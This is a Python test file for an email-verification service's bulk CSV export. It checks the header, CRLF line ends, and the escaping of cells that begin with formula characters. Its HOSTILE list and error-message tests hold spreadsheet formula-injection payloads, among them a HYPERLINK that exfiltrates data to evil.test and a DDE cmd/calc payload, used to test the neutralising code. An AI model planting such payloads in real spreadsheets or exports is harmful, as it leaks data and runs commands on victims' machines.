"""The bulk CSV: the spec's exact header, one row per output, Reacher's cell conventions, RFC 4180
line ends, and no cell a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from app.api.v0 import csv_export

SPEC_HEADER = (
    "input,is_reachable,misc.is_disposable,misc.is_role_account,misc.error,mx.accepts_mail,"
    "mx.records,mx.error,smtp.can_connect_smtp,smtp.has_full_inbox,smtp.is_catch_all,"
    "smtp.is_deliverable,smtp.is_disabled,smtp.error,syntax.domain,syntax.is_valid_syntax,"
    "syntax.username,syntax.error"
)


def output(**overrides: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "input": "someone@gmail.com",
        "is_reachable": "invalid",
        "misc": {"is_disposable": False, "is_role_account": False, "is_b2c": True},
        "mx": {
            "accepts_mail": True,
            "records": ["alt3.gmail-smtp-in.l.google.com.", "gmail-smtp-in.l.google.com."],
        },
        "smtp": {
            "can_connect_smtp": True,
            "has_full_inbox": False,
            "is_catch_all": False,
            "is_deliverable": False,
            "is_disabled": True,
        },
        "syntax": {
            "address": "someone@gmail.com",
            "domain": "gmail.com",
            "is_valid_syntax": True,
            "username": "someone",
            "normalized_email": "someone@gmail.com",
            "suggestion": None,
        },
        "debug": {},
    }
    base.update(overrides)
    return base


def test_header_is_the_specs_18_columns() -> None:
    assert csv_export.header() == SPEC_HEADER + "\r\n"
    assert len(csv_export.HEADER) == 18


def test_the_specs_example_row() -> None:
    assert csv_export.encode([output()]) == (
        "someone@gmail.com,invalid,false,false,,true,"
        '"alt3.gmail-smtp-in.l.google.com.,gmail-smtp-in.l.google.com.",,true,false,false,'
        "false,true,,gmail.com,true,someone,\r\n"
    )


@pytest.mark.parametrize(
    ("section", "value", "column", "cell"),
    [
        ("mx", {"accepts_mail": True, "records": ["mx.a.test."]}, "mx.records", "mx.a.test."),
        ("mx", {"accepts_mail": False, "records": []}, "mx.records", ""),
        ("mx", {"accepts_mail": False, "records": []}, "mx.accepts_mail", "false"),
        (
            "mx",
            {"error": {"type": "ServFail", "message": "DNS server returned general failure"}},
            "mx.error",
            "DNS server returned general failure",
        ),
        ("mx", {"error": {"type": "ServFail", "message": "x"}}, "mx.accepts_mail", ""),
        ("mx", {"error": {"type": "ServFail", "message": "x"}}, "mx.records", ""),
        (
            "smtp",
            {
                "error": {"type": "AsyncSmtpError", "message": "550 blocked"},
                "description": "IpBlacklisted",
            },
            "smtp.error",
            "550 blocked",
        ),
        (
            "smtp",
            {"error": {"type": "Timeout", "message": {"secs": 2, "nanos": 500000000}}},
            "smtp.error",
            "Timeout: 2.5s",
        ),
        ("smtp", {"error": {"type": "AsyncSmtpError", "message": "x"}}, "smtp.is_deliverable", ""),
        (
            "smtp",
            {"error": {"type": "Weird", "message": {"a": [1]}}},
            "smtp.error",
            'Weird: {"a":[1]}',
        ),
        ("misc", {"error": {"type": "Gravatar", "message": "down"}}, "misc.error", "down"),
        ("misc", {"is_disposable": True, "is_role_account": True}, "misc.is_disposable", "true"),
    ],
)
def test_cells(section: str, value: dict[str, Any], column: str, cell: str) -> None:
    row = csv_export.row(output(**{section: value}))

    assert dict(zip(csv_export.HEADER, row, strict=True))[column] == cell


def test_invalid_syntax_row() -> None:
    row = csv_export.row(
        output(
            input="not an email",
            syntax={
                "address": None,
                "domain": "",
                "is_valid_syntax": False,
                "username": "",
                "normalized_email": None,
                "suggestion": None,
            },
        )
    )
    cells = dict(zip(csv_export.HEADER, row, strict=True))

    assert cells["syntax.is_valid_syntax"] == "false"
    assert cells["syntax.domain"] == ""
    assert cells["syntax.username"] == ""


@pytest.mark.parametrize("awkward", ['a"b@x.test', "a,b@x.test", "line\nbreak@x.test", "é@ü.test"])
def test_awkward_inputs_round_trip_through_a_csv_reader(awkward: str) -> None:
    text = csv_export.header() + csv_export.encode([output(input=awkward)])

    rows = list(csv.reader(io.StringIO(text)))

    assert len(rows) == 2
    assert rows[1][0] == awkward
    assert len(rows[1]) == 18


def test_lines_end_with_crlf() -> None:
    text = csv_export.header() + csv_export.encode([output(), output(input="b@x.test")])

    assert text.count("\r\n") == 3
    assert text.replace("\r\n", "").count("\n") == 0
    assert text.endswith("\r\n")


def syntax_of(address: str) -> dict[str, Any]:
    username, _, domain = address.rpartition("@")
    return {
        "address": address,
        "domain": domain,
        "is_valid_syntax": True,
        "username": username,
        "normalized_email": address,
        "suggestion": None,
    }


HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1)@x.com',
    "@SUM(1+1)@x.com",
    "+1@x.com",
    "-x@x.com",
    "=1+2@x.com",
    "\t=1@x.com",
    "\r=1@x.com",
    "user\rname@x.com",
    "\rlead@x.com",
    "a\r\n=b@x.com",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_formula_starts_are_neutralised_in_every_cell_and_read_back(hostile: str) -> None:
    text = csv_export.header() + csv_export.encode(
        [output(input=hostile, syntax=syntax_of(hostile)), output()]
    )

    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert len(rows) == 3
    assert all(len(row) == 18 for row in rows)
    cells = dict(zip(csv_export.HEADER, rows[1], strict=True))
    username = hostile.rpartition("@")[0]
    assert cells["input"] == csv_export.neutralised(hostile)
    assert cells["syntax.username"] == csv_export.neutralised(username)
    assert rows[2][0] == "someone@gmail.com"
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.test/?"&A1)@x.com',
            '\'=HYPERLINK("http://evil.test/?"&A1)@x.com',
        ),
        ("@SUM(1+1)@x.com", "'@SUM(1+1)@x.com"),
        ("+1@x.com", "'+1@x.com"),
        ("-x@x.com", "'-x@x.com"),
        ("\tx@x.com", "'\tx@x.com"),
        ("\rx@x.com", "'\rx@x.com"),
        ("x=1@x.com", "x=1@x.com"),
        ("a-b@x.com", "a-b@x.com"),
        ("'quoted@x.com", "'quoted@x.com"),
        ("\nx@x.com", "\nx@x.com"),
        (" =x@x.com", " =x@x.com"),
        ("", ""),
        ("true", "true"),
    ],
)
def test_neutralised(text: str, shown: str) -> None:
    assert csv_export.neutralised(text) == shown


def test_error_texts_are_neutralised_too() -> None:
    row = csv_export.row(
        output(smtp={"error": {"type": "AsyncSmtpError", "message": "-ERR =cmd|' /C calc'!A0"}})
    )

    assert dict(zip(csv_export.HEADER, row, strict=True))["smtp.error"] == (
        "'-ERR =cmd|' /C calc'!A0"
    )


def test_a_bare_cr_stays_inside_its_quoted_field() -> None:
    text = csv_export.encode([output(input="user\rname@x.com")])

    assert text.startswith('"user\rname@x.com",')
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1
